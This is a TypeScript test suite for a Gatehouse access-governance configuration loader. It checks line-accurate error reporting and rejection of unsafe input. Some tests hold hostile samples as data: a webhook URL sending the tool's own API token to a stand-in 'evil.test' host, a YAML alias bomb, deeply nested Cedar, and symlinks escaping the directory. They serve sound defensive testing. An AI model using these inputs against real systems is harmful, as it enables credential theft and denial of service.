import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  cp,
  mkdtemp,
  readFile,
  readdir,
  rename,
  rm,
  symlink,
  writeFile,
  mkdir,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { parseDuration } from '../core/duration.js';
import { InputError } from '../core/errors.js';
import { DEFAULT_SETTINGS } from '../core/model.js';
import { configErrorsOf, findIssue } from '../testing/config-issues.js';
import { ConfigError, formatIssue, loadConfigDir } from './load.js';

// Fixtures stay in the source tree (the build copies no data from src/config); tests run from the repo root.
const ACME = join(process.cwd(), 'src/config/fixtures/acme');

type Edit = string | null | ((text: string) => string);

const made: string[] = [];
after(() => Promise.all(made.map((d) => rm(d, { recursive: true, force: true }))));

async function tempDir(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'gatehouse-config-'));
  made.push(dir);
  return dir;
}

/** A copy of the acme example with some files replaced, rewritten or (null) removed. */
async function variant(edits: Record<string, Edit>): Promise<string> {
  const dir = await tempDir();
  await cp(ACME, dir, { recursive: true });
  for (const [rel, edit] of Object.entries(edits)) {
    const path = join(dir, rel);
    if (edit === null) {
      await rm(path, { force: true });
      continue;
    }
    const before = await readFile(path, 'utf8').catch(() => '');
    const after = typeof edit === 'function' ? edit(before) : edit;
    assert.notEqual(after, before, `edit of ${rel} changed nothing`);
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, after);
  }
  return dir;
}

function replace(from: string, to: string): (text: string) => string {
  return (text) => {
    assert.ok(text.includes(from), `fixture has no "${from}"`);
    return text.replace(from, to);
  };
}

const errorsOf = configErrorsOf;
const find = findIssue;

test('the acme example loads with every part mapped onto the model', async () => {
  const { config, warnings } = await loadConfigDir(ACME);
  // Every connector type it uses provisions: nothing to warn about.
  assert.deepEqual(
    warnings.map((w) => `${w.file}:${w.line}`),
    [],
  );
  assert.equal(config.settings.approvalTimeout, 72 * 3600);
  assert.equal(config.settings.fallbackGroup, 'governance');
  assert.deepEqual(config.settings.chains.critical, [
    { rule: 'manager', minApprovals: 1 },
    { rule: 'app_owner', minApprovals: 1 },
    { rule: 'group:security', minApprovals: 2 },
  ]);
  assert.equal(config.settings.mover, 'revoke');

  const alice = config.identities.find((i) => i.id === 'alice@acme.test');
  assert.deepEqual(alice, {
    id: 'alice@acme.test',
    kind: 'human',
    status: 'active',
    displayName: 'Alice Ng',
    department: 'engineering',
    title: 'staff engineer',
    manager: 'carol@acme.test',
    owner: '',
    attributes: { location: 'berlin', employment_type: 'employee' },
  });
  const bot = config.identities.find((i) => i.id === 'agent:triage-bot');
  assert.equal(bot?.owner, 'dave@acme.test');
  assert.deepEqual(bot?.attributes, { location: '', employment_type: '' });

  assert.deepEqual(
    config.apps.map((a) => a.id),
    ['erp', 'github', 'pg-analytics', 'prod', 'wiki'],
  );
  assert.deepEqual(config.apps.find((a) => a.id === 'github')?.licenceSeats, { standard: 200 });

  const admin = config.entitlements.find((e) => e.id === 'github:admin');
  assert.deepEqual(admin, {
    id: 'github:admin',
    app: 'github',
    risk: 'critical',
    privileged: true,
    maxDuration: 8 * 3600,
    defaultDuration: 8 * 3600,
    standing: false,
    kinds: ['human'],
    requiresTicket: true,
    breakGlass: true,
    approval: [
      { rule: 'app_owner', minApprovals: 1 },
      { rule: 'group:security', minApprovals: 1 },
    ],
    licenceTier: null,
    credentialRotation: null,
    target: { group: 'gh-admins' },
  });
  const vendor = config.entitlements.find((e) => e.id === 'erp:vendor-create');
  assert.equal(vendor?.risk, 'high', 'risk defaults to the app risk');
  assert.equal(vendor?.approval, null);
  const wikiRead = config.entitlements.find((e) => e.id === 'wiki:read');
  assert.equal(wikiRead?.maxDuration, null);
  assert.equal(wikiRead?.defaultDuration, 90 * 86400);
  assert.equal(config.entitlements.find((e) => e.id === 'github:write')?.licenceTier, 'standard');

  assert.deepEqual(config.sod[1], {
    id: 'SOD-DEPLOY-1',
    description: 'Code authors deploying to production need a second pair of eyes',
    conflict: [['github:write'], ['prod:deploy']],
    onConflict: 'require_exception',
    exception: { approvers: [{ rule: 'group:risk', minApprovals: 1 }], maxDuration: 7 * 86400 },
  });
  assert.deepEqual(config.birthright, [
    {
      index: 0,
      when: { department: 'engineering' },
      grant: ['github:read', 'wiki:edit'],
      duration: 180 * 86400,
      standing: false,
    },
    { index: 1, when: { kind: 'human' }, grant: ['wiki:read'], duration: null, standing: true },
  ]);

  const noAgent = config.policies.find((p) => p.id === 'no-agent-privilege');
  assert.equal(noAgent?.file, 'policies/eligibility.cedar');
  assert.equal(noAgent?.line, 5);
  assert.equal(noAgent?.reason, 'AI agents may not hold privileged entitlements');
  assert.ok(noAgent?.text.startsWith('@id("no-agent-privilege")'));
  assert.equal(config.policies.find((p) => p.id === 'everyone-may-ask')?.reason, null);

  const ldap = config.connectors.find((c) => c.name === 'corp-ldap');
  assert.equal(ldap?.type, 'ldap');
  assert.equal(ldap?.settings['bind_password'], '${LDAP_PASSWORD}', 'references stay unresolved');
  assert.deepEqual(
    config.connectors.find((c) => c.name === 'pg-analytics')?.settings['reconcile'],
    {
      every: '1h',
      unmanaged: 'report',
      missing: 'remediate',
      revocation_failed: 'remediate',
    },
  );
  assert.deepEqual(config.groups[0], {
    id: 'security',
    members: ['sec1@acme.test', 'sec2@acme.test'],
  });
});

test('an empty directory loads with the default settings and warns that the fallback group is undefined', async () => {
  const dir = await tempDir();
  const { config, warnings } = await loadConfigDir(dir);
  assert.deepEqual(config.settings, DEFAULT_SETTINGS);
  assert.equal(config.entitlements.length, 0);
  assert.equal(warnings.length, 1);
  assert.match(warnings[0]!.message, /fallback group "governance".*no groups\.yaml/);
});

test('a chain given for one tier leaves the other tiers at their defaults', async () => {
  const dir = await variant({ 'gatehouse.yaml': 'approval:\n  chains:\n    low: [owner]\n' });
  const { config } = await loadConfigDir(dir);
  assert.deepEqual(config.settings.chains.low, [{ rule: 'owner', minApprovals: 1 }]);
  assert.deepEqual(config.settings.chains.high, DEFAULT_SETTINGS.chains.high);
  assert.equal(config.settings.approvalTimeout, DEFAULT_SETTINGS.approvalTimeout);
});

test('expiry reminders are read as seconds before expiry, largest first and each once; an empty list turns them off', async () => {
  assert.deepEqual(DEFAULT_SETTINGS.expiryReminders, [7 * 86400, 86400]);
  const { config } = await loadConfigDir(
    await variant({ 'gatehouse.yaml': (t) => `${t}expiry_reminders: [1d, 12h, 7d, 1d]\n` }),
  );
  assert.deepEqual(config.settings.expiryReminders, [7 * 86400, 86400, 12 * 3600]);
  const off = await loadConfigDir(
    await variant({ 'gatehouse.yaml': (t) => `${t}expiry_reminders: []\n` }),
  );
  assert.deepEqual(off.config.settings.expiryReminders, []);
});

test('a bad expiry_reminders entry is reported with gatehouse.yaml and its line', async () => {
  // The fixture has 13 lines: the key lands on line 14, its entries on lines 15 to 17.
  const dir = await variant({
    'gatehouse.yaml': (t) => `${t}expiry_reminders:\n  - 7d\n  - soon\n  - 0d\n`,
  });
  const errors = await errorsOf(dir);
  find(errors, 'gatehouse.yaml', 16, /^expiry_reminders\[1\]: "soon" is not a duration/);
  find(errors, 'gatehouse.yaml', 17, /^expiry_reminders\[2\]: "0d" is not a duration/);
  const notAList = await errorsOf(
    await variant({ 'gatehouse.yaml': (t) => `${t}expiry_reminders: 7d\n` }),
  );
  find(notAList, 'gatehouse.yaml', 14, /^expiry_reminders: expected a list, got "7d"/);
});

test('a YAML syntax error is reported on its line', async () => {
  const dir = await variant({ 'groups.yaml': replace('- id: risk\n', '- id: risk: x\n') });
  const errors = await errorsOf(dir);
  find(errors, 'groups.yaml', 3, /Nested mappings are not allowed/);
  // A file that cannot be read hides no further noise: references to its groups are not reported.
  assert.equal(errors.length, 1, errors.map(formatIssue).join('\n'));
});

test('a bad duration is reported with its file, line and field path', async () => {
  const dir = await variant({
    'apps/github.yaml': replace('max_duration: 8h', 'max_duration: 8x'),
  });
  const errors = await errorsOf(dir);
  const issue = find(
    errors,
    'apps/github.yaml',
    23,
    /^entitlements\[2\]\.max_duration: "8x" is not a duration/,
  );
  assert.match(
    formatIssue(issue),
    /^apps\/github\.yaml:23: entitlements\[2\]\.max_duration: "8x" is not a duration \(use/,
  );
  assert.equal(errors.length, 1);
});

test('a typo in an entitlement field is reported with its file and line', async () => {
  const dir = await variant({
    'apps/github.yaml': replace('max_duration: 90d\n    target', 'max_duraton: 90d\n    target'),
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'apps/github.yaml',
    18,
    /^entitlements\[1\]: unknown field "max_duraton" \(did you mean "max_duration"\?\)/,
  );
});

test('a missing required field points at the entry that lacks it', async () => {
  const dir = await variant({
    'apps/prod.yaml': replace("    target: { queue: 'PROD-ACCESS' }\n", ''),
  });
  const errors = await errorsOf(dir);
  find(errors, 'apps/prod.yaml', 7, /^entitlements\[0\]\.target: is required/);
});

test('an entitlement defined in two apps is reported naming both files', async () => {
  const dir = await variant({ 'apps/wiki.yaml': replace('id: wiki:edit', 'id: github:write') });
  const errors = await errorsOf(dir);
  find(
    errors,
    'apps/wiki.yaml',
    10,
    /entitlement "github:write" is already defined at apps\/github\.yaml:15/,
  );
});

test('a SoD rule naming an unknown entitlement is reported on its sod.yaml line with the id', async () => {
  const dir = await variant({
    'sod.yaml': replace('[[github:write], [prod:deploy]]', '[[github:write], [prod:deploi]]'),
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'sod.yaml',
    7,
    /^\[1\]\.conflict\[1\]\[0\]: unknown entitlement "prod:deploi".*did you mean "prod:deploy"/,
  );
});

test('a birthright rule granting an unknown entitlement is reported on its line', async () => {
  const dir = await variant({
    'birthright.yaml': replace('grant: [wiki:read]', 'grant:\n    - wiki:reader'),
  });
  const errors = await errorsOf(dir);
  find(errors, 'birthright.yaml', 6, /^\[1\]\.grant\[0\]: unknown entitlement "wiki:reader"/);
});

test('a standing birthright grant of an entitlement without standing access is an error', async () => {
  const dir = await variant({ 'apps/wiki.yaml': replace('    standing: true\n', '') });
  const errors = await errorsOf(dir);
  find(errors, 'birthright.yaml', 5, /wiki:read does not permit standing access/);
});

test('an app naming an unknown connector is reported in the app file, naming connectors.yaml', async () => {
  const dir = await variant({
    'apps/prod.yaml': replace('connector: helpdesk', 'connector: help-desk'),
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'apps/prod.yaml',
    5,
    /^connector: connector "help-desk" is not defined in connectors\.yaml \(did you mean "helpdesk"\?\)/,
  );
});

test('a chain naming an unknown group is an error naming groups.yaml', async () => {
  const dir = await variant({ 'apps/github.yaml': replace('group:security]', 'group:secops]') });
  const errors = await errorsOf(dir);
  find(
    errors,
    'apps/github.yaml',
    26,
    /^entitlements\[2\]\.approval\[1\]: group "secops" is not defined in groups\.yaml/,
  );
});

test('a word that is no approval rule is reported on its line', async () => {
  const dir = await variant({ 'gatehouse.yaml': replace('medium: [manager]', 'medium: [managr]') });
  const errors = await errorsOf(dir);
  find(errors, 'gatehouse.yaml', 6, /"managr" is not an approval rule/);
});

test('an identity missing from identities.csv is a warning, not an error', async () => {
  const dir = await variant({
    'groups.yaml': replace(
      'members: [risk1@acme.test]',
      'members: [risk1@acme.test, newhire@acme.test]',
    ),
    'apps/prod.yaml': replace('owner: erin@acme.test', 'owner: ghost@acme.test'),
  });
  const { warnings } = await loadConfigDir(dir);
  find(
    warnings,
    'groups.yaml',
    4,
    /^\[1\]\.members\[1\]: identity "newhire@acme.test" is not in identities\.csv/,
  );
  find(warnings, 'apps/prod.yaml', 4, /^owner: identity "ghost@acme.test"/);
});

test('a fallback group that groups.yaml does not define is an error', async () => {
  const dir = await variant({
    'gatehouse.yaml': replace('fallback_group: governance', 'fallback_group: gov'),
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'gatehouse.yaml',
    3,
    /^approval\.fallback_group: group "gov" is not defined in groups\.yaml/,
  );
});

test('a CSV row with the wrong number of fields is reported on its line', async () => {
  const dir = await variant({
    'identities.csv': replace(
      'dave@acme.test,human,active,Dave Obi,',
      'dave@acme.test,human,active,Dave,Obi,',
    ),
  });
  const errors = await errorsOf(dir);
  find(errors, 'identities.csv', 4, /row has 11 fields, the header has 10/);
});

test('an unknown identity kind in the CSV is reported on its line', async () => {
  const dir = await variant({
    'identities.csv': replace('svc:ci-deployer,service_account', 'svc:ci-deployer,robot'),
  });
  const errors = await errorsOf(dir);
  find(errors, 'identities.csv', 11, /^kind: "robot" is not one of human, service_account/);
});

test('a duplicate identity id names both CSV lines', async () => {
  const dir = await variant({
    'identities.csv': (t) => `${t}"carol@acme.test",human,active,Carol D,,,,,,\n`,
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'identities.csv',
    13,
    /identity "carol@acme.test" is already defined at identities\.csv:3/,
  );
});

test('a Cedar syntax error is reported on its line even after multi-byte UTF-8 text', async () => {
  const comment = `// Richtlinien für Überprüfung — ${'🚪'.repeat(40)}\n`;
  const text = `${comment}@id("a")\npermit (principal, action == Action::"request", resource);\n\n@id("b")\nforbid (principal, action == Action::"request", resource)\nwhen { principal.kind == };\n`;
  const dir = await variant({ 'policies/broken.cedar': text });
  const errors = await errorsOf(dir);
  find(errors, 'policies/broken.cedar', 7, /unexpected token/);
  // The offset counted as characters would land later: the conversion is what gets line 7 right.
  const byteOffset = Buffer.from(text).indexOf('};');
  assert.notEqual(text.slice(0, byteOffset).split('\n').length, 7);
});

test('a policy without an @id is reported on its line', async () => {
  const dir = await variant({
    'policies/extra.cedar':
      '// extra\n\n@reason("x")\npermit (principal, action == Action::"request", resource);\n',
  });
  const errors = await errorsOf(dir);
  find(errors, 'policies/extra.cedar', 3, /no @id/);
});

test('a policy id used in two files is reported naming both places', async () => {
  const dir = await variant({
    'policies/extra.cedar':
      '\n@id("everyone-may-ask")\npermit (principal, action == Action::"request", resource);\n',
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'policies/extra.cedar',
    2,
    /policy id "everyone-may-ask" is already defined at policies\/eligibility\.cedar:2/,
  );
});

test('a policy about an action Gatehouse never evaluates is a warning', async () => {
  const dir = await variant({
    'policies/extra.cedar':
      '@id("odd")\npermit (principal, action == Action::"delete", resource);\n',
  });
  const { warnings } = await loadConfigDir(dir);
  find(warnings, 'policies/extra.cedar', 1, /Action::"delete"/);
});

test('an inline secret in connectors.yaml is rejected without repeating it', async () => {
  const dir = await variant({
    'connectors.yaml': (t) =>
      t
        .replace('bind_password: ${LDAP_PASSWORD}', 'bind_password: hunter2')
        .replace('url: ${ANALYTICS_DB_URL}', 'url: postgres://gh:s3cret@db.acme.test/analytics'),
  });
  const errors = await errorsOf(dir);
  find(errors, 'connectors.yaml', 9, /^\[1\]\.bind_password: secrets must be a reference/);
  find(errors, 'connectors.yaml', 3, /^\[0\]\.url: the URL holds a literal password/);
  assert.ok(errors.every((e) => !/hunter2|s3cret/.test(e.message)));
});

test('every connector type of the format provisions, so none is warned about, and an unknown setting is an error at its line', async () => {
  const { warnings } = await loadConfigDir(ACME);
  assert.ok(!warnings.some((w) => w.file === 'connectors.yaml'), JSON.stringify(warnings));
  const dir = await variant({
    'connectors.yaml': replace(
      '  base_dn: dc=acme,dc=test',
      '  base_dn: dc=acme,dc=test\n  bsae_dn: x',
    ),
  });
  find(await errorsOf(dir), 'connectors.yaml', 11, /^\[1\]: unknown field "bsae_dn"/);
});

test("connector settings are checked against their type's schema, each on its line", async () => {
  const dir = await variant({
    'connectors.yaml': replace(
      '  url: ${ANALYTICS_DB_URL} # secrets only by reference, never inline',
      '  url: ${ANALYTICS_DB_URL}\n  connect_timeout: soon\n  create_acounts: true\n  statement_timeout: 30s',
    ),
  });
  const errors = await errorsOf(dir);
  find(errors, 'connectors.yaml', 4, /^\[0\]\.connect_timeout: "soon" is not a duration/);
  find(
    errors,
    'connectors.yaml',
    5,
    /^\[0\]: unknown field "create_acounts" \(did you mean "create_accounts"\?\)/,
  );
  assert.ok(!errors.some((e) => /statement_timeout|reconcile/.test(e.message)), 'valid keys pass');
  const noUrl = await variant({
    'connectors.yaml': replace(
      '  url: ${ANALYTICS_DB_URL} # secrets only by reference, never inline\n',
      '',
    ),
  });
  find(await errorsOf(noUrl), 'connectors.yaml', 1, /^\[0\]\.url: is required/);
});

test('an entitlement target that its connector type cannot use is reported on its line', async () => {
  const dir = await variant({
    'apps/pg-analytics.yaml': replace(
      'target: { role: analytics_writer }',
      'target: { group: analytics_writer }',
    ),
    'apps/github.yaml': replace(
      "target: { group: 'gh-readers' }",
      "target: { team: 'gh-readers' }",
    ),
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'apps/pg-analytics.yaml',
    14,
    /^entitlements\[1\]\.target\.role: is required \(connector pg-analytics is of type postgres\)$/,
  );
  find(errors, 'apps/pg-analytics.yaml', 14, /^entitlements\[1\]\.target: unknown field "group"/);
  find(
    errors,
    'apps/github.yaml',
    14,
    /^entitlements\[0\]\.target\.group: is required \(connector scim-github is of type scim\)/,
  );
  const long = await variant({
    'apps/pg-analytics.yaml': replace('role: analytics_reader', `role: ${'r'.repeat(64)}`),
  });
  find(
    await errorsOf(long),
    'apps/pg-analytics.yaml',
    11,
    /target\.role: is longer than the 63 bytes/,
  );
});

test('two entitlements on one assignment of one target are refused, naming both entitlements and files', async () => {
  const dir = await variant({
    'apps/pg-analytics.yaml': replace(
      'target: { role: analytics_writer }',
      'target: { role: analytics_reader }',
    ),
    // The same LDAP group written with other case, in another app's file.
    'apps/erp.yaml': replace(
      "target: { group: 'cn=erp-vendor-create,ou=groups,dc=acme,dc=test' }",
      "target: { group: 'CN=Wiki-Readers,OU=groups,DC=acme,DC=test' }",
    ),
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'apps/pg-analytics.yaml',
    14,
    /entitlement "pg-analytics:writer": target \{"role":"analytics_reader"\} on connector pg-analytics is the same assignment as entitlement "pg-analytics:reader" \(apps\/pg-analytics\.yaml:11\)/,
  );
  find(
    errors,
    'apps/wiki.yaml',
    9,
    /entitlement "wiki:read": .* is the same assignment as entitlement "erp:vendor-create" \(apps\/erp\.yaml:9\)/,
  );
});

test('a credential on an entitlement whose connector cannot issue one, or that no non-human kind may hold, is an error at its line', async () => {
  const dir = await variant({
    'apps/wiki.yaml': replace(
      '  - id: wiki:edit\n',
      '  - id: wiki:edit\n    kinds: [service_account]\n    credential: { rotation: 30d }\n',
    ),
    'apps/pg-analytics.yaml': replace(
      '    max_duration: 30d\n    target: { role: analytics_writer }',
      '    max_duration: 30d\n    credential: { rotation: 30d }\n    target: { role: analytics_writer }',
    ),
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'apps/wiki.yaml',
    12,
    /^entitlements\[1\]\.credential: connector corp-ldap \(type ldap\) cannot issue credentials$/,
  );
  find(
    errors,
    'apps/pg-analytics.yaml',
    14,
    /^entitlements\[1\]\.credential: credentials are issued for non-human identities only/,
  );
  const ok = await variant({
    'apps/pg-analytics.yaml': replace(
      '    kinds: [human, service_account, workload]\n',
      '    kinds: [human, service_account, workload]\n    credential: { rotation: 7d }\n',
    ),
  });
  const { config } = await loadConfigDir(ok);
  assert.equal(
    config.entitlements.find((e) => e.id === 'pg-analytics:reader')?.credentialRotation,
    7 * 86400,
  );
});

test('a default duration longer than the maximum and an unknown licence tier are errors', async () => {
  const dir = await variant({
    'apps/github.yaml': (t) =>
      t
        .replace('default_duration: 90d', 'default_duration: 200d')
        .replace('licence_tier: standard', 'licence_tier: premium'),
  });
  const errors = await errorsOf(dir);
  find(errors, 'apps/github.yaml', 12, /default_duration: 200d is longer than max_duration 180d/);
  find(
    errors,
    'apps/github.yaml',
    17,
    /licence_tier: "premium" is not a tier of licence\.seats \(standard\)/,
  );
});

test('require_exception without an exception is an error on the rule', async () => {
  const dir = await variant({
    'sod.yaml': replace('  exception: { approvers: [group:risk], max_duration: 7d }\n', ''),
  });
  const errors = await errorsOf(dir);
  find(errors, 'sod.yaml', 8, /needs an exception/);
});

test('all errors across files are reported at once, sorted, the first in the message', async () => {
  const dir = await variant({
    'apps/prod.yaml': replace('risk: critical', 'risk: extreme'),
    'sod.yaml': replace('on_conflict: block', 'on_conflict: deny'),
  });
  try {
    await loadConfigDir(dir);
    assert.fail('expected errors');
  } catch (e) {
    assert.ok(e instanceof ConfigError && e instanceof InputError);
    assert.deepEqual(
      e.issues.map((i) => `${i.file}:${i.line}`),
      ['apps/prod.yaml:3', 'sod.yaml:4'],
    );
    assert.equal(e.message, `${formatIssue(e.issues[0]!)} (and 1 more)`);
    assert.match(e.message, /risk: "extreme" is not one of low, medium, high, critical/);
  }
});

test('a .yml file, an unknown file or an unknown directory is an error naming it, never silently ignored', async () => {
  const dir = await variant({
    'apps/notes.yml': 'id: notes\n',
    'sod.yml': '- id: x\n',
    'README.md': '# our config\n',
    'policies/old.cedar.bak': 'forbid (principal, action, resource);\n',
    'extra/x.yaml': 'a: 1\n',
  });
  const errors = await errorsOf(dir);
  find(errors, 'apps/notes.yml', 0, /unknown file in apps\/.*must be named notes\.yaml/);
  find(
    errors,
    'sod.yml',
    0,
    /unknown file in the configuration directory.*must be named sod\.yaml/,
  );
  find(errors, 'README.md', 0, /unknown file/);
  find(errors, 'policies/old.cedar.bak', 0, /unknown file in policies\/ \(only \*\.cedar/);
  find(errors, 'extra', 0, /unknown directory/);
});

test('hidden entries such as .git are skipped, as documented', async () => {
  const dir = await variant({ '.git/HEAD': 'ref: refs/heads/main\n', 'apps/.erp.yaml.swp': 'x' });
  const { config } = await loadConfigDir(dir);
  assert.equal(config.apps.length, 5);
});

/** Kubernetes mounts a ConfigMap as a hidden timestamped directory, `..data` linking to it, and a link per file. */
async function configMapMount(): Promise<string> {
  const mount = await tempDir();
  await cp(ACME, join(mount, '..2026_11_23_10_00_00.123'), { recursive: true });
  await symlink('..2026_11_23_10_00_00.123', join(mount, '..data'));
  for (const name of await readdir(ACME)) await symlink(join('..data', name), join(mount, name));
  return mount;
}

test('a ConfigMap-style mount, every file a symlink inside the directory, loads like the plain directory', async () => {
  const plain = await loadConfigDir(ACME);
  const mounted = await loadConfigDir(await configMapMount());
  assert.deepEqual(mounted, plain);
  assert.equal(mounted.config.sod.length, 2);
  assert.ok(mounted.config.policies.some((p) => p.id === 'no-agent-privilege'));
});

test('a symlinked sod.yaml or policy pointing outside the directory is an error naming it', async () => {
  const outside = await tempDir();
  await writeFile(join(outside, 'sod.yaml'), '[]\n');
  await writeFile(join(outside, 'x.cedar'), 'permit (principal, action, resource);\n');
  const dir = await variant({ 'sod.yaml': null });
  await symlink(join(outside, 'sod.yaml'), join(dir, 'sod.yaml'));
  await symlink(join(outside, 'x.cedar'), join(dir, 'policies', 'more.cedar'));
  await symlink(join(dir, 'nowhere.yaml'), join(dir, 'birthright.yaml.link'));
  const errors = await errorsOf(dir);
  find(errors, 'sod.yaml', 0, /symbolic link to outside the configuration directory/);
  find(errors, 'policies/more.cedar', 0, /symbolic link to outside/);
  find(errors, 'birthright.yaml.link', 0, /symbolic link to nothing/);
});

test('a symlinked sod.yaml whose target is inside the directory is read, not skipped', async () => {
  const dir = await variant({});
  await mkdir(join(dir, '.shared'));
  await rename(join(dir, 'sod.yaml'), join(dir, '.shared', 'sod.yaml'));
  await symlink(join('.shared', 'sod.yaml'), join(dir, 'sod.yaml'));
  const { config } = await loadConfigDir(dir);
  assert.deepEqual(
    config.sod.map((r) => r.id),
    ['SOD-PAY-1', 'SOD-DEPLOY-1'],
  );
});

test('two identities mapped to one account on one connector is an error naming both', async () => {
  const dir = await variant({
    'connectors.yaml': replace(
      'url: ${ANALYTICS_DB_URL}',
      'url: ${ANALYTICS_DB_URL}\n  account_attribute: location',
    ),
  });
  const errors = await errorsOf(dir);
  // alice and carol are both in berlin: the attribute makes them one database account.
  find(
    errors,
    'identities.csv',
    3,
    /carol@acme\.test: identities alice@acme\.test and carol@acme\.test map to one account "berlin" on connector pg-analytics/,
  );
});

test('an identity whose account is a governed target role of the same connector is an error', async () => {
  const dir = await variant({
    'identities.csv': (t) =>
      `${t}analytics_reader,service_account,active,Reader,,,,alice@acme.test,,\n`,
  });
  const errors = await errorsOf(dir);
  find(
    errors,
    'identities.csv',
    13,
    /analytics_reader: its account "analytics_reader" on connector pg-analytics is the target of pg-analytics:reader/,
  );
});

test('URL passwords, ?password= and the common secret key names are literal secrets', async () => {
  const dir = await variant({
    'connectors.yaml': (t) =>
      `${t}- name: more\n  type: webhook\n  url: https://hooks.test/x?api_key=abc123&x=1\n  passwd: hunter2\n  apiKey: k-123\n  private_key: "-----BEGIN"\n  credentials: { user: admin, key: s3cr3t }\n  conninfo: host=db password=pw\n  token_url: https://auth.test/token\n`,
  });
  const errors = await errorsOf(dir);
  find(errors, 'connectors.yaml', 19, /^\[4\]\.url: the parameter api_key holds a literal secret/);
  find(errors, 'connectors.yaml', 20, /^\[4\]\.passwd: secrets must be a reference/);
  find(errors, 'connectors.yaml', 21, /^\[4\]\.apiKey: secrets must be a reference/);
  find(errors, 'connectors.yaml', 22, /^\[4\]\.private_key: secrets must be a reference/);
  find(errors, 'connectors.yaml', 23, /^\[4\]\.credentials\.user: secrets must be a reference/);
  find(errors, 'connectors.yaml', 24, /^\[4\]\.conninfo: the parameter password holds a literal/);
  assert.ok(
    !errors.some((i) => /token_url/.test(i.message) && /secret|reference/.test(i.message)),
    'token_url is not a secret',
  );
  assert.ok(!errors.some((i) => /abc123|hunter2|k-123|s3cr3t/.test(i.message)));
});

test('a ${VAR} naming Gatehouse own credentials is refused, and env_allow restricts the rest', async () => {
  const own = await variant({
    'connectors.yaml': (t) =>
      `${t}- name: leak\n  type: webhook\n  url: https://evil.test/?t=\${GATEHOUSE_API_TOKEN}\n  token: \${DATABASE_URL}\n`,
  });
  const errors = await errorsOf(own);
  find(
    errors,
    'connectors.yaml',
    19,
    /refers to \$\{GATEHOUSE_API_TOKEN\} is one of Gatehouse's own credentials/,
  );
  find(errors, 'connectors.yaml', 20, /refers to \$\{DATABASE_URL\} is one of Gatehouse's own/);

  const allowed = await variant({
    'gatehouse.yaml': (t) => `${t}secrets:\n  env_allow: [ANALYTICS_*, LDAP_PASSWORD]\n`,
  });
  const outside = await errorsOf(allowed);
  find(
    outside,
    'connectors.yaml',
    13,
    /\[2\]\.url: refers to \$\{GITHUB_SCIM_URL\} is not in secrets\.env_allow/,
  );
  find(outside, 'connectors.yaml', 14, /\[2\]\.token: refers to \$\{GITHUB_SCIM_TOKEN\}/);
  assert.equal(outside.length, 2, outside.map(formatIssue).join('\n'));
});

test('a YAML alias bomb is one error naming the file, not a crash', async () => {
  const laughs = [
    'a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]',
    ...'bcdefg'
      .split('')
      .map((x, i) => `${x}: &${x} [${Array(9).fill(`*${'abcdefg'[i]}`).join(', ')}]`),
  ].join('\n');
  const errors = await errorsOf(await variant({ 'groups.yaml': `${laughs}\n` }));
  find(errors, 'groups.yaml', 1, /too many YAML aliases/);
});

test('deeply nested Cedar is an error with its line, and Cedar stays usable afterwards', async () => {
  const deep = `@id("deep")\npermit (principal, action, resource)\nwhen { ${'('.repeat(10000)}true${')'.repeat(10000)} };\n`;
  const errors = await errorsOf(await variant({ 'policies/deep.cedar': deep }));
  find(errors, 'policies/deep.cedar', 3, /nested more than 32 deep/);
  const chain = `@id("long")\npermit (principal, action, resource)\nwhen { context${'.a'.repeat(10000)} };\n`;
  find(
    await errorsOf(await variant({ 'policies/long.cedar': chain })),
    'policies/long.cedar',
    3,
    /more than 2000 operators/,
  );
  // The shared Cedar module was never fed the text, so the next load still parses policies.
  const { config } = await loadConfigDir(ACME);
  assert.ok(config.policies.length > 0);
});

test('a duration above 68 years is an error naming the field, in config and on the command line', async () => {
  const errors = await errorsOf(
    await variant({ 'apps/wiki.yaml': replace('max_duration: 365d', 'max_duration: 100000d') }),
  );
  find(
    errors,
    'apps/wiki.yaml',
    11,
    /entitlements\[\d\]\.max_duration: "100000d" is too long \(at most 24855d/,
  );
  assert.throws(
    () => parseDuration('100000d', '--duration'),
    (e: Error) =>
      e instanceof InputError &&
      e.code === 'duration_too_long' &&
      /^--duration: "100000d" is too long/.test(e.message),
  );
  assert.equal(parseDuration('24855d'), 24855 * 86400);
});

test('a NUL character or lone surrogate in a YAML value or policy file is an error with its line', async () => {
  const errors = await errorsOf(
    await variant({
      'groups.yaml':
        '- id: security\n  members: ["sam\\0@acme.test"]\n- id: governance\n  members: ["\\ud800"]\n',
      'policies/nul.cedar': '@id("nul")\npermit (principal, action, resource);\n\u0000\n',
    }),
  );
  find(errors, 'groups.yaml', 2, /^\[0\]\.members\[0\]: holds a NUL character/);
  find(errors, 'policies/nul.cedar', 1, /the file holds a NUL character/);
});
